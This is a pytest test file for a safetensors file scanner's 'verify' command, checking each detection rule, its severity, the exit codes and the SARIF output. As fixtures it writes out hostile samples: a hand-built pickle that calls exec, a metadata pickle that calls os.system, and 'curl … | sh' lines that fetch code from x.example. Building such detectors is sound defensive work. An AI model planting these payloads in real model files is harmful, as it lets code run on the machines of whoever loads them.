"""`fastst verify`: one crafted file per rule, asserting the rule id, its
severity and the exit code; several problems in one file all reported;
SARIF output validated against the official SARIF 2.1.0 schema."""

from __future__ import annotations

import json
import struct
from pathlib import Path
from typing import Callable, List, NamedTuple

import fastst
import fastst.numpy
import fastst.tools.inspect as fi
import jsonschema
import numpy as np
import pytest
import safetensors
import safetensors.numpy
from fastst.cli import sarif_log
from helpers.cli_files import entry, run, run_json, sarif_schema, write_entries, write_raw
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

pytestmark = pytest.mark.slow

F32_1 = entry("F32", [1], 0, 4)
A = json.dumps(F32_1)


def _clean(p: Path) -> None:
    safetensors.numpy.save_file(
        {"w.weight": np.ones((2, 2), np.float32)}, str(p), metadata={"format": "pt"}
    )


def _deep(p: Path, depth: int = 100_000) -> None:
    # Inside an unknown field, where a reader has to skip over nested values.
    deep = "[" * depth + "]" * depth
    head = '{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4],"x":'
    write_raw(p, head + deep + "}}", b"\0" * 4)


def _trailing_pickle(p: Path) -> None:
    write_entries(p, {"a": F32_1}, b"\0" * 4 + b"\x80\x04\x95\x20\x00\x00\x00" + b"\0" * 9)


#: ``pickle.dumps`` of a call of ``builtins.exec``, protocol 4, written out by hand (never
#: unpickled here).
PICKLE_EXEC = (
    b"\x80\x04\x95\x28\0\0\0\0\0\0\0\x8c\x08builtins\x94\x8c\x04exec\x94\x93\x94"
    b"\x8c\x0cimport os;id\x94\x85\x94R\x94."
)


def _tensor_with_pickle(p: Path) -> None:
    blob = PICKLE_EXEC + b"\0" * 13
    write_entries(
        p,
        {"blob": entry("U8", [len(blob)], 0, len(blob)), "a": entry("F32", [1], 64, 68)},
        blob + b"\0" * 4,
    )


def _pickle_prefix(p: Path) -> None:
    # A header of 0x2158 bytes: the prefix reads as BINUNICODE of 0x21 bytes, which
    # ends on "0N." inside a metadata value (POP, NONE, STOP): pickle.loads gives None.
    header = '{"__metadata__":{"p":"aaaaaaaa0N."},"a":' + A + "}"
    assert header.index("0N.") == 30
    write_raw(p, header.ljust(0x2158), b"\0" * 4)


def _hole_with_zip(p: Path) -> None:
    write_entries(
        p, {"a": F32_1, "b": entry("F32", [1], 24, 28)}, b"\0" * 4 + b"PK\x03\x04" + b"\1" * 20
    )


class Case(NamedTuple):
    rule: str
    severity: str
    build: Callable[[Path], object]
    args: List[str] = []


CASES: List[Case] = [
    # The reader's own rules.
    Case("file-too-short", "high", lambda p: p.write_bytes(b"abc")),
    Case("header-length-zero", "high", lambda p: p.write_bytes(b"\0" * 8)),
    Case(
        "header-too-large",
        "high",
        lambda p: p.write_bytes(struct.pack("<Q", 1 << 40) + b"{}"),
    ),
    Case(
        "header-past-end",
        "high",
        lambda p: p.write_bytes(struct.pack("<Q", 1000) + b"{}"),
    ),
    Case("header-not-utf8", "high", lambda p: write_raw(p, b'{"a\xff":1}')),
    Case("header-start", "high", lambda p: write_raw(p, b"\xef\xbb\xbf{}")),
    Case("json-too-deep", "high", lambda p: _deep(p, 300)),
    Case("json-syntax", "high", lambda p: write_raw(p, '{"a":' + A + ",}", b"\0" * 4)),
    Case(
        "duplicate-tensor",
        "high",
        lambda p: write_raw(p, '{"a":' + A + ',"a":' + A + "}", b"\0" * 4),
    ),
    Case(
        "duplicate-metadata-key",
        "high",
        lambda p: write_raw(p, '{"__metadata__":{"format":"pt","format":"np"}}'),
    ),
    Case(
        "duplicate-metadata",
        "high",
        lambda p: write_raw(p, '{"__metadata__":{},"__metadata__":{}}'),
    ),
    Case("metadata-not-map", "high", lambda p: write_raw(p, '{"__metadata__":["x"]}')),
    Case(
        "metadata-value-not-string",
        "high",
        lambda p: write_raw(p, '{"__metadata__":{"format":1}}'),
    ),
    Case("entry-not-object", "high", lambda p: write_raw(p, '{"a":[1,2]}')),
    Case(
        "duplicate-field",
        "high",
        lambda p: write_raw(
            p, '{"a":{"dtype":"F32","dtype":"I32","shape":[1],"data_offsets":[0,4]}}', b"\0" * 4
        ),
    ),
    Case(
        "missing-field",
        "high",
        lambda p: write_raw(p, '{"a":{"dtype":"F32","data_offsets":[0,4]}}', b"\0" * 4),
    ),
    Case(
        "wrong-field-type",
        "high",
        lambda p: write_raw(p, '{"a":{"dtype":5,"shape":[1],"data_offsets":[0,4]}}', b"\0" * 4),
    ),
    Case(
        "unknown-dtype",
        "high",
        lambda p: write_entries(p, {"a": entry("f32", [1], 0, 4)}, b"\0" * 4),
    ),
    Case(
        "bad-shape-entry",
        "high",
        lambda p: write_entries(p, {"a": entry("F32", [-1], 0, 4)}, b"\0" * 4),
    ),
    Case(
        "size-overflow",
        "high",
        lambda p: write_entries(p, {"a": entry("F32", [1 << 62, 1 << 62], 0, 4)}, b"\0" * 4),
    ),
    Case(
        "sub-byte-not-whole",
        "high",
        lambda p: write_entries(p, {"a": entry("F4", [3], 0, 2)}, b"\0" * 2),
    ),
    Case(
        "bad-offsets",
        "high",
        lambda p: write_raw(p, '{"a":{"dtype":"F32","shape":[1],"data_offsets":[4]}}', b"\0" * 4),
    ),
    Case(
        "offsets-reversed",
        "high",
        lambda p: write_entries(p, {"a": entry("F32", [1], 8, 4)}, b"\0" * 8),
    ),
    Case(
        "byte-length-mismatch",
        "high",
        lambda p: write_entries(p, {"a": entry("F32", [2], 0, 4)}, b"\0" * 4),
    ),
    Case(
        "hole",
        "high",
        lambda p: write_entries(p, {"a": F32_1, "b": entry("F32", [1], 8, 12)}, b"\0" * 12),
    ),
    Case(
        "overlap",
        "high",
        lambda p: write_entries(
            p, {"a": entry("F32", [2], 0, 8), "b": entry("F32", [1], 4, 8)}, b"\0" * 8
        ),
    ),
    Case(
        "data-too-short",
        "high",
        lambda p: write_entries(p, {"a": entry("F32", [2], 0, 8)}, b"\0" * 4),
    ),
    Case("trailing-bytes", "high", lambda p: write_entries(p, {"a": F32_1}, b"\0" * 12)),
    # Forensics.
    Case(
        "foreign-content",
        "critical",
        lambda p: p.write_bytes(b"\x80\x02}q\x00(X\x01\x00\x00\x00a."),
    ),
    Case("hidden-payload", "critical", _trailing_pickle),
    Case(
        "ghost-tensor",
        "high",
        lambda p: write_entries(p, {"a": F32_1, "g": entry("F32", [4], 64, 80)}, b"\0" * 4),
    ),
    Case(
        "aliased-tensor",
        "high",
        lambda p: write_entries(p, {"a": F32_1, "b": F32_1}, b"\0" * 4),
    ),
    Case("control-char-name", "medium", lambda p: write_entries(p, {"a\u202eb": F32_1}, b"\0" * 4)),
    Case("path-like-name", "medium", lambda p: write_entries(p, {"../../etc/x": F32_1}, b"\0" * 4)),
    Case("tensor-payload", "critical", _tensor_with_pickle),
    Case(
        "metadata-payload",
        "critical",
        lambda p: write_entries(p, {"a": F32_1}, b"\0" * 4, {"ss_x": "cos\nsystem\n(S'id'\ntR."}),
    ),
    Case("pickle-prefix", "high", _pickle_prefix),
    Case(
        "metadata-code",
        "high",
        lambda p: write_entries(
            p, {"a": F32_1}, b"\0" * 4, {"ss_x": "curl -s https://x.example/i | sh"}
        ),
    ),
    Case(
        "metadata-executable-link",
        "high",
        lambda p: write_entries(
            p, {"a": F32_1}, b"\0" * 4, {"ss_x": "https://x.example/setup.exe"}
        ),
    ),
    Case(
        "metadata-blob",
        "medium",
        lambda p: write_entries(p, {"a": F32_1}, b"\0" * 4, {"ss_x": "TWFsd2FyZTEyMw" * 80}),
    ),
    Case(
        "non-finite-values",
        "medium",
        lambda p: safetensors.numpy.save_file(
            {"x": np.array([1, np.nan, np.inf], np.float32)}, str(p)
        ),
        ["--values"],
    ),
    Case(
        "invalid-bool",
        "medium",
        lambda p: write_entries(p, {"m": entry("BOOL", [3], 0, 3)}, b"\x00\x01\x07"),
        ["--values"],
    ),
    Case(
        "large-tensor",
        "low",
        # Declared, not present: reported alongside data-too-short.
        lambda p: write_entries(p, {"big": entry("U8", [1 << 31], 0, 1 << 31)}, b"\0" * 4),
    ),
    Case(
        "suspicious-weight-dtype",
        "low",
        lambda p: write_entries(p, {"l.weight": entry("I32", [1], 0, 4)}, b"\0" * 4),
    ),
    Case("empty-name", "low", lambda p: write_entries(p, {"": F32_1}, b"\0" * 4)),
    Case(
        "unknown-field",
        "low",
        lambda p: write_entries(p, {"a": dict(F32_1, extra=1)}, b"\0" * 4),
    ),
    Case(
        "leading-whitespace",
        "low",
        lambda p: write_raw(p, "\n  " + json.dumps({"a": F32_1}), b"\0" * 4),
    ),
    Case(
        "metadata-null",
        "low",
        lambda p: write_raw(p, '{"__metadata__":null,"a":' + A + "}", b"\0" * 4),
    ),
    Case(
        "huge-metadata-value",
        "low",
        lambda p: write_entries(p, {"a": F32_1}, b"\0" * 4, {"ss_comment": "x" * ((1 << 20) + 1)}),
    ),
    Case(
        "malformed-metadata-value",
        "low",
        lambda p: write_entries(p, {"a": F32_1}, b"\0" * 4, {"ss_tag_frequency": "{not json"}),
    ),
    Case(
        "unknown-metadata-key",
        "info",
        lambda p: write_entries(p, {"a": F32_1}, b"\0" * 4, {"my_key": "v"}),
    ),
    Case("no-tensors", "info", lambda p: write_raw(p, "{}")),
]

#: Rules exercised by the hash tests instead (they come from `hash --check`).
HASH_RULES = {"hash-mismatch", "no-embedded-hash"}
#: Rules of checkpoints as wholes, exercised by tests/tools/test_checkpoint.py.
CHECKPOINT_RULES = {"index-total-size"}
# Reported about the folders verified, not about an input: tests/tools/test_stale_temp.py.
FOLDER_RULES = {"stale-temp-file"}


def test_every_rule_has_a_case() -> None:
    catalogue = {r["id"] for r in fi.rules()}
    covered = {c.rule for c in CASES} | HASH_RULES | CHECKPOINT_RULES | FOLDER_RULES
    assert catalogue == covered


def test_very_deep_nesting_is_a_finding_not_a_crash(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "deep.safetensors"
    _deep(path, 1_000_000)
    code, doc = run_json(["verify", "--json", str(path)], capsys)
    (report,) = doc
    assert [f["rule"] for f in report["findings"]] == ["json-too-deep"]
    assert not report["accepted"] and not report["complete"]
    assert code == 2 and report["inconclusive"]  # malformed: no verdict either way


@pytest.mark.parametrize("case", CASES, ids=[c.rule for c in CASES])
def test_rule(case: Case, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "m.safetensors"
    case.build(path)
    code, doc = run_json(["verify", "--json", *case.args, str(path)], capsys)
    (report,) = doc
    hits = [f for f in report["findings"] if f["rule"] == case.rule]
    assert hits, [f["rule"] for f in report["findings"]]
    assert all(f["severity"] == case.severity for f in hits)
    assert all(f["message"] for f in hits)
    verdicts = {r["id"]: r["verdict"] for r in fi.rules()}
    assert all(f["verdict"] == verdicts[f["rule"]] for f in report["findings"])
    # Exit code: 1 when a red flag is at least low (the default threshold);
    # else 2 when the file is malformed (inconclusive, not malicious); else 0.
    red = [f for f in report["findings"] if f["verdict"] == "red-flag"]
    malformed = any(f["verdict"] == "malformed" for f in report["findings"])
    assert report["malformed"] == malformed
    if any(fi.severity_rank(f["severity"]) >= fi.severity_rank("low") for f in red):
        assert code == 1 and report["fails"] and not report["inconclusive"]
    elif malformed or not report["complete"]:
        assert code == 2 and report["inconclusive"] and not report["fails"]
    else:
        assert code == 0
    # The reader's verdict agrees with the reference package's.
    try:
        with safetensors.safe_open(str(path), "numpy") as f:
            f.keys()
        reference_accepts = True
    except Exception:
        reference_accepts = False
    if case.severity in ("info", "low", "medium") and case.rule not in ("large-tensor",):
        assert report["accepted"] and reference_accepts
    if verdicts[case.rule] == "malformed" and case.rule not in ("aliased-tensor",):
        assert not report["accepted"]
    if verdicts[case.rule] == "red-flag" and case.rule.startswith(("metadata-", "tensor-")):
        assert report["accepted"] and reference_accepts  # a red flag in a well-formed file


def test_clean_file_exits_zero(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "ok.safetensors"
    _clean(path)
    code, out, err = run(["verify", "--values", str(path)], capsys)
    assert code == 0, out
    assert "OK, no findings" in out
    assert err == ""


def test_every_problem_of_one_file_is_reported(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "many.safetensors"
    header = (
        '{"__metadata__":{"k":"v","k":"w"},'
        '"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},'
        '"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},'
        '"b":{"dtype":"Q8","shape":[1],"data_offsets":[8,9]},'
        '"c":{"dtype":"F32","shape":[2],"data_offsets":[24,28]},'
        '"d\\u0000":{"dtype":"F32","shape":[1],"data_offsets":[12,16]}}'
    )
    write_raw(path, header, b"\0" * 16 + b"\x7fELF" + b"\0" * 4)
    code, doc = run_json(["verify", "--json", str(path)], capsys)
    rules = {f["rule"] for f in doc[0]["findings"]}
    assert {
        "duplicate-metadata-key",
        "duplicate-tensor",
        "aliased-tensor",
        "unknown-dtype",
        "byte-length-mismatch",
        "control-char-name",
        "hole",
        "trailing-bytes",
        "hidden-payload",
    } <= rules
    assert code == 1
    # Most severe first.
    ranks = [fi.severity_rank(f["severity"]) for f in doc[0]["findings"]]
    assert ranks == sorted(ranks, reverse=True)


def test_hole_holding_a_zip(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "h.safetensors"
    _hole_with_zip(path)
    code, doc = run_json(["verify", "--json", str(path)], capsys)
    findings = doc[0]["findings"]
    payload = next(f for f in findings if f["rule"] == "hidden-payload")
    hole = next(f for f in findings if f["rule"] == "hole")
    header_len = struct.unpack("<Q", path.read_bytes()[:8])[0]
    assert payload["offset"] == hole["offset"] == 8 + header_len + 4
    assert hole["length"] == 20 and hole["count"] == 20
    assert "zip" in payload["message"]


def test_foreign_data_formats_are_high_not_critical(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "model.safetensors"
    path.write_bytes(b"GGUF\x03\x00\x00\x00" + b"\0" * 64)
    code, doc = run_json(["verify", "--json", str(path)], capsys)
    (foreign,) = [f for f in doc[0]["findings"] if f["rule"] == "foreign-content"]
    assert foreign["severity"] == "high"
    assert code == 1


def test_fail_on_threshold(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "w.safetensors"
    write_entries(path, {"../x": F32_1}, b"\0" * 4, {"mine": "1"})  # medium + info
    assert run(["verify", str(path)], capsys)[0] == 1
    assert run(["verify", "--fail-on", "medium", str(path)], capsys)[0] == 1
    assert run(["verify", "--fail-on", "high", str(path)], capsys)[0] == 0
    info_only = tmp_path / "i.safetensors"
    write_entries(info_only, {"a": F32_1}, b"\0" * 4, {"mine": "1"})
    assert run(["verify", str(info_only)], capsys)[0] == 0
    assert run(["verify", "--fail-on", "info", str(info_only)], capsys)[0] == 1


def test_unreadable_header_below_threshold_is_inconclusive(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "j.safetensors"
    write_raw(path, '{"a": 1,')
    code, doc = run_json(["verify", "--json", "--fail-on", "critical", str(path)], capsys)
    assert code == 2
    assert doc[0]["complete"] is False
    assert doc[0]["inconclusive"] is True


def test_missing_and_unreadable_files(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    good = tmp_path / "good.safetensors"
    _clean(good)
    code, out, err = run(["verify", str(good), str(tmp_path / "nope.safetensors")], capsys)
    assert code == 2
    lines = err.strip().splitlines()
    assert len(lines) == 1 and "nope.safetensors" in lines[0]
    assert "OK" in out
    code, _out, err = run(["verify", str(tmp_path)], capsys)
    assert code == 0 and err == ""
    empty = tmp_path / "empty"
    empty.mkdir()
    code, _out, err = run(["verify", str(empty)], capsys)
    assert code == 2 and "no .safetensors file" in err


def test_folder_walk(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "sub").mkdir()
    _clean(tmp_path / "a.safetensors")
    write_entries(tmp_path / "sub" / "b.safetensors", {"a": F32_1}, b"\0" * 8)
    (tmp_path / "notes.txt").write_text("not a model")
    code, doc = run_json(["verify", "--json", str(tmp_path)], capsys)
    paths = [Path(r["path"]).name for r in doc]
    assert paths == ["a.safetensors", "b.safetensors"]
    assert code == 2  # b is malformed (trailing bytes): inconclusive


def test_text_output(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "t.safetensors"
    _trailing_pickle(path)
    code, out, _err = run(["verify", str(path)], capsys)
    assert code == 1
    assert "t.safetensors: RED FLAG: 2 findings (1 critical, 1 high); REJECTED by the reader" in out
    assert "CRITICAL hidden-payload" in out
    assert "pickle stream (protocol 4)" in out
    assert "HIGH     trailing-bytes  malformed: " in out  # the layout rule broken, as such


def test_malformed_is_inconclusive_and_a_red_flag_fails(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # The same broken layout, without and with a payload in the stray bytes:
    # malformed alone is inconclusive (exit 2) in text, JSON and SARIF; with
    # a red flag it fails (exit 1), whatever the threshold's order.
    broken, flagged = tmp_path / "broken.safetensors", tmp_path / "flagged.safetensors"
    write_entries(broken, {"a": F32_1}, b"\0" * 4 + b"junk" * 4)
    _trailing_pickle(flagged)
    code, out, _ = run(["verify", str(broken)], capsys)
    assert code == 2 and "broken.safetensors: MALFORMED, inconclusive: 1 finding" in out
    assert "RED FLAG" not in out
    code, doc = run_json(["verify", "--json", str(broken)], capsys)
    assert code == 2
    assert (doc[0]["malformed"], doc[0]["inconclusive"], doc[0]["fails"]) == (True, True, False)
    assert {f["verdict"] for f in doc[0]["findings"]} == {"malformed"}
    code, log = run_json(["verify", "--format", "sarif", str(broken)], capsys)
    assert code == 2
    (result,) = log["runs"][0]["results"]
    assert (result["kind"], result["level"]) == ("review", "none")
    code, doc = run_json(["verify", "--json", str(flagged)], capsys)
    assert code == 1 and doc[0]["fails"] and doc[0]["malformed"] and not doc[0]["inconclusive"]
    # Above the threshold of every red flag, a malformed file stays inconclusive.
    code, doc = run_json(["verify", "--json", "--fail-on", "critical", str(broken)], capsys)
    assert code == 2 and doc[0]["inconclusive"]
    code, out, _ = run(["verify", str(broken), str(flagged)], capsys)
    assert out.rstrip().splitlines()[-1] == (
        "2 inputs verified: 1 with red flags at or above low, 1 malformed (inconclusive), "
        "0 unreadable"
    )


def test_sarif_is_valid_sarif_2_1_0(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    files = []
    for case in CASES:
        path = tmp_path / f"{case.rule}.safetensors"
        case.build(path)
        files.append(str(path))
    code, doc = run_json(
        ["verify", "--format", "sarif", "--values", *files, str(tmp_path / "missing.safetensors")],
        capsys,
    )
    assert code == 2
    schema = sarif_schema()
    jsonschema.Draft4Validator.check_schema(schema)
    jsonschema.Draft4Validator(schema).validate(doc)
    run_ = doc["runs"][0]
    assert doc["version"] == "2.1.0"
    rule_ids = [r["id"] for r in run_["tool"]["driver"]["rules"]]
    found = {r["ruleId"] for r in run_["results"]}
    assert {c.rule for c in CASES} <= found
    verdicts = {r["id"]: r["verdict"] for r in fi.rules()}
    for result in run_["results"]:
        assert rule_ids[result["ruleIndex"]] == result["ruleId"]
        assert result["properties"]["verdict"] == verdicts[result["ruleId"]]
        # Malformed is "review" (not enough to decide), a red flag "fail".
        if verdicts[result["ruleId"]] == "malformed":
            assert (result["kind"], result["level"]) == ("review", "none")
        else:
            assert result["kind"] == "fail"
            assert result["level"] in ("error", "warning", "note")
    for rule in run_["tool"]["driver"]["rules"]:
        assert rule["properties"]["verdict"] == verdicts[rule["id"]]
    notes = [n["message"]["text"] for n in run_["invocations"][0]["toolExecutionNotifications"]]
    hole = str(tmp_path / "hole.safetensors")  # malformed, and nothing else
    assert any(n.startswith(hole + ": malformed") for n in notes), notes
    assert run_["invocations"][0]["executionSuccessful"] is False


def test_sarif_schema_rejects_a_broken_log() -> None:
    # The validation above can fail: a log without "version" is invalid.
    log = sarif_log([])
    del log["version"]
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.Draft4Validator(sarif_schema()).validate(log)


def test_python_api(tmp_path: Path) -> None:
    path = tmp_path / "api.safetensors"
    _trailing_pickle(path)
    report = fi.verify_file(path)
    assert report["accepted"] is False and report["complete"] is True
    assert report["tensors"] == 1
    assert report["findings"][0]["rule"] == "hidden-payload"
    with pytest.raises(FileNotFoundError):
        fi.verify_file(tmp_path / "absent.safetensors")


PAST_END = {"ghost-tensor", "data-too-short", "large-tensor"}


def _seed_file() -> bytes:
    return safetensors.numpy.save(
        {
            "a.weight": np.arange(6, dtype=np.float32).reshape(2, 3),
            "b": np.array([True, False]),
            "c": np.zeros((0, 2), np.float16),
        },
        metadata={"format": "pt"},
    )


@settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.data())
def test_mutated_files_never_crash_and_agree_with_the_reader(
    tmp_path: Path, data: st.DataObject
) -> None:
    raw = bytearray(_seed_file())
    for _ in range(data.draw(st.integers(1, 4))):
        kind = data.draw(st.sampled_from(["flip", "truncate", "insert", "delete"]))
        pos = data.draw(st.integers(0, max(0, len(raw) - 1)))
        if kind == "flip" and raw:
            raw[pos] = data.draw(st.integers(0, 255))
        elif kind == "truncate":
            del raw[pos:]
        elif kind == "insert":
            raw[pos:pos] = data.draw(st.binary(min_size=1, max_size=8))
        elif kind == "delete" and raw:
            del raw[pos]
    path = tmp_path / "fuzz.safetensors"
    path.write_bytes(bytes(raw))
    report = fi.verify_file(path, values=True)
    try:
        with fastst.safe_open(path, "numpy") as f:
            f.keys()
        reader_accepts = True
    except fastst.SafetensorError:
        reader_accepts = False
    assert report["accepted"] == reader_accepts
    # The reader's verdict shows in the severities: a file it rejects has a
    # finding of at least high severity, a file it accepts has none.
    worst = max((fi.severity_rank(f["severity"]) for f in report["findings"]), default=-1)
    assert (worst >= fi.severity_rank("high")) != reader_accepts, report["findings"]
    for f in report["findings"]:
        assert f["severity"] in fi.SEVERITIES and f["message"]
        # Byte ranges lie inside the file, except for data a header
        # declares beyond its end.
        if f["offset"] is not None and f["rule"] not in PAST_END:
            assert f["offset"] + (f["length"] or 0) <= report["file_len"], f


# Folders: files that hold pickles; truncated downloads ---------------------

PICKLE = b"\x80\x02}q\x00X\x01\x00\x00\x00aq\x01K\x01s."  # pickle.dumps({"a": 1}, 2)


def _zip(path: Path, *members: str) -> Path:
    import zipfile

    with zipfile.ZipFile(path, "w") as z:
        for name in members:
            z.writestr(name, PICKLE if name.endswith(".pkl") else b"x")
    return path


def test_folder_scan_reports_files_holding_pickles(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _clean(tmp_path / "model.safetensors")
    _zip(tmp_path / "pytorch_model.bin", "archive/data.pkl", "archive/version")
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "legacy.pt").write_bytes(PICKLE)
    (tmp_path / "weights.dat").write_bytes(PICKLE)  # by content, not by name
    _zip(tmp_path / "bundle.zip", "README", "model/data.pkl")  # not the first member
    _zip(tmp_path / "images.zip", "a.png")  # a zip without pickles
    (tmp_path / "config.json").write_text("{}")
    code, doc = run_json(["verify", "--json", str(tmp_path)], capsys)
    assert code == 1
    by_name = {Path(r["path"]).name: r for r in doc}
    pickles = {"pytorch_model.bin", "legacy.pt", "weights.dat", "bundle.zip"}
    assert set(by_name) == {"model.safetensors"} | pickles
    assert by_name["model.safetensors"]["findings"] == []
    for name in pickles:
        report = by_name[name]
        (finding,) = report["findings"]
        assert finding["rule"] == "foreign-content" and finding["severity"] == "critical"
        assert "loading it can run code" in finding["message"]
        target = report["path"].rsplit(".", 1)[0] + ".safetensors"
        assert f"`fastst convert {report['path']} {target}`" in finding["message"]
        assert report["fails"] and not report["accepted"]
    assert "PyTorch checkpoint (zip with pickles)" in str(by_name["pytorch_model.bin"])
    code, out, err = run(["verify", str(tmp_path)], capsys)
    assert code == 1 and err == ""
    assert "5 inputs verified: 4 with red flags at or above low, 0 malformed" in out
    assert "CRITICAL foreign-content  this is a raw pickle stream" in out


def test_folder_holding_only_a_pickle(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _zip(tmp_path / "model.ckpt", "archive/data.pkl")
    for threshold in ("low", "critical"):
        code, doc = run_json(["verify", "--json", "--fail-on", threshold, str(tmp_path)], capsys)
        assert code == 1 and [Path(r["path"]).name for r in doc] == ["model.ckpt"]
    # Named directly: the same one finding.
    code, doc = run_json(["verify", "--json", str(tmp_path / "model.ckpt")], capsys)
    assert code == 1 and [f["rule"] for f in doc[0]["findings"]] == ["foreign-content"]


def _many_tensors(path: Path, n: int = 40) -> bytes:
    safetensors.numpy.save_file(
        {f"layer.{i:02}.weight": np.full(1000, i, np.float32) for i in range(n)}, str(path)
    )
    return path.read_bytes()


def test_truncated_download_is_one_plain_finding(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "cut.safetensors"
    whole = _many_tensors(path)
    path.write_bytes(whole[:50_000])
    code, doc = run_json(["verify", "--json", str(path)], capsys)
    # Malformed, not malicious: inconclusive (exit 2), no red flag.
    assert code == 2 and doc[0]["malformed"] and doc[0]["inconclusive"] and not doc[0]["fails"]
    (finding,) = doc[0]["findings"]
    assert finding["verdict"] == "malformed"
    assert finding["rule"] == "data-too-short" and finding["severity"] == "high"
    assert finding["message"] == f"truncated: 50,000 of {len(whole):,} bytes present; re-download"
    assert finding["offset"] == 50_000 and finding["length"] == len(whole) - 50_000
    header_len = struct.unpack("<Q", whole[:8])[0]
    assert finding["count"] == 40 - (50_000 - 8 - header_len) // 4000  # tensors cut off
    code, out, _err = run(["verify", str(path)], capsys)
    assert code == 2 and out.count("\n") == 2
    assert "cut.safetensors: MALFORMED, inconclusive: 1 finding (1 high)" in out
    assert f"HIGH     data-too-short  malformed: truncated: 50,000 of {len(whole):,} bytes" in out
    # Cut at a tensor's end: only whole tensors are missing, the same one finding.
    path.write_bytes(whole[: 8 + header_len + 4000])
    (finding,) = fi.verify_file(path)["findings"]
    assert finding["rule"] == "ghost-tensor" and finding["count"] == 39
    assert finding["message"].startswith(f"truncated: {8 + header_len + 4000:,} of")


def test_truncated_shard_is_one_plain_finding(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    names = ["model-00001-of-00002.safetensors", "model-00002-of-00002.safetensors"]
    weight_map = {}
    for k, name in enumerate(names):
        safetensors.numpy.save_file(
            {f"s{k}.{i}": np.zeros(500, np.float32) for i in range(20)}, str(tmp_path / name)
        )
        weight_map.update({f"s{k}.{i}": name for i in range(20)})
    (tmp_path / "model.safetensors.index.json").write_text(json.dumps({"weight_map": weight_map}))
    shard = tmp_path / names[1]
    whole = shard.read_bytes()
    shard.write_bytes(whole[:10_000])
    code, doc = run_json(["verify", "--json", str(tmp_path)], capsys)
    assert code == 2 and doc[0]["inconclusive"]
    (finding,) = doc[0]["findings"]
    assert finding["shard"] == names[1] and finding["rule"] == "data-too-short"
    assert finding["message"] == f"truncated: 10,000 of {len(whole):,} bytes present; re-download"


def _file(path):
    fastst.numpy.save_file({"w": np.arange(4, dtype=np.float32)}, path)
    return path


def test_verify_summary_counts_unreadable_inputs(tmp_path, capsys):
    """With several inputs, the text output ends with a summary line, also
    when some inputs could not be read (mutant: ``reports - errors > 1``)."""
    good = _file(tmp_path / "good.safetensors")
    missing = tmp_path / "missing.safetensors"
    code, out, err = run(["verify", str(good), str(missing)], capsys)
    assert code == 2 and "missing.safetensors" in err
    assert out.rstrip().splitlines()[-1] == (
        "1 input verified: 0 with red flags at or above low, 0 malformed (inconclusive), "
        "1 unreadable"
    )
    code, out, _ = run(["verify", str(missing), str(tmp_path / "gone.safetensors")], capsys)
    assert code == 2
    assert out.rstrip().splitlines()[-1].endswith("2 unreadable")
    code, out, _ = run(["verify", str(good)], capsys)
    assert code == 0 and "verified:" not in out


def test_verify_foreign_data_format_is_high_not_critical(tmp_path, capsys):
    """A recognised foreign format that cannot run code (an HTML page under a
    .safetensors name) gets a ``foreign-content`` finding of severity high;
    only formats that can run code are critical (mutant: the two swapped)."""
    page = tmp_path / "page.safetensors"
    page.write_bytes(b"<!DOCTYPE html><html><body>not a model</body></html>\n" * 4)
    code, out, _ = run(["verify", "--json", str(page)], capsys)
    (result,) = json.loads(out)["results"]
    foreign = [f for f in result["findings"] if f["rule"] == "foreign-content"]
    assert [f["severity"] for f in foreign] == ["high"], result["findings"]
    assert "HTML" in foreign[0]["message"]


def test_sarif_artifact_uris_of_absolute_and_relative_paths(tmp_path, capsys, monkeypatch):
    """SARIF artifact locations: an absolute path becomes a ``file://`` URI,
    a relative one stays relative, percent-encoded (mutant: the two cases
    swapped, which cannot express a relative path at all)."""
    path = _file(tmp_path / "a model.safetensors")
    code, out, _ = run(["verify", "--format", "sarif", str(path)], capsys)
    assert code == 0
    [artifact] = json.loads(out)["runs"][0]["artifacts"]
    assert artifact["location"]["uri"] == path.as_uri()
    assert artifact["location"]["uri"].startswith("file:///")
    monkeypatch.chdir(tmp_path)
    code, out, _ = run(["verify", "--format", "sarif", "a model.safetensors"], capsys)
    assert code == 0
    [artifact] = json.loads(out)["runs"][0]["artifacts"]
    assert artifact["location"]["uri"] == "a%20model.safetensors"


# Hidden payloads: where they sit, and none in ordinary weights -------------------------


def _payloads(tmp_path: Path) -> dict:
    """Other formats' files, as a tensor might carry them: a pickle that calls code, a PyTorch
    zip archive (made by zipfile, as torch.save lays it out), an ELF executable (this Python's
    own, when it is one), a shell script and a Python script without a #! line."""
    import sys

    archive = _zip(tmp_path / "ckpt.zip", "archive/data.pkl", "archive/version").read_bytes()
    found = {
        "a pickle program": PICKLE_EXEC,
        "a zip archive holding pickles": archive,
        "a script (#!/bin/sh)": b"#!/bin/sh\ncurl -s http://x.example/p | sh\n",
        "a script (text that calls code": b"import subprocess\nsubprocess.run(['id'])\n" * 2,
    }
    with open(sys.executable, "rb") as fh:
        head = fh.read(4096)
